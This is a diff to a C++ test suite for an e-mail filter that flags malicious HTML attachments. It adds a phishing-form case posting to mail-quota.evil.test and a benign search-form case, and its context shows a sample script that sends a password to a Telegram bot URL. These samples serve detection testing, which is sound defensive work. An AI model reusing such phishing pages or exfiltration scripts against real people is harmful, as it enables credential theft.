@@ -97,6 +97,17 @@ TEST_CASE("HTML attachments: smuggling, credential forms, redirects, obfuscation
        "placeholder=\"Password\"><button>Sign in</button></form></body></html>",
        {"ATTACH_HTML_FORM"},
        "password"},
+      {"a form that posts an e-mail field to the web",
+       "<html><body><p>Your mailbox is full. Confirm your address to keep receiving mail.</p>"
+       "<form action=\"https://mail-quota.evil.test/ok\"><input type=\"email\" name=\"email\">"
+       "<input type=\"submit\" value=\"Confirm\"></form></body></html>",
+       {"ATTACH_HTML_FORM"},
+       "login field"},
+      {"a search form posting to the web is not a credential form",
+       "<html><body><p>Find more recipes on our site.</p><form action=\"https://recipes.example"
+       ".com/search\"><input type=\"text\" name=\"q\"><input type=\"submit\" value=\"Search\">"
+       "</form></body></html>",
+       {}},
       {"a page whose script posts the password to a bot",
        "<html><body><input id=\"e\"><input id=\"p\" type=\"text\"><button onclick=\"go()\">Next"
        "</button><script>function go(){ fetch('https://api.telegram.org/bot123:AA/sendMessage', "
@@ -199,5 +210,6 @@ TEST_CASE("no HTML part of the ham corpus looks like smuggling") {
                 << " attached), " << bytes << " bytes in " << ms << " ms; fired:" << summary);
   CHECK(messages > 1000);
   CHECK(smuggling.empty());
+  CHECK(fired["ATTACH_HTML_FORM"] <= html_parts / 100);  // bodies, not attachments: < 1 %
   for (const auto& s : smuggling) WARN(s);
 }
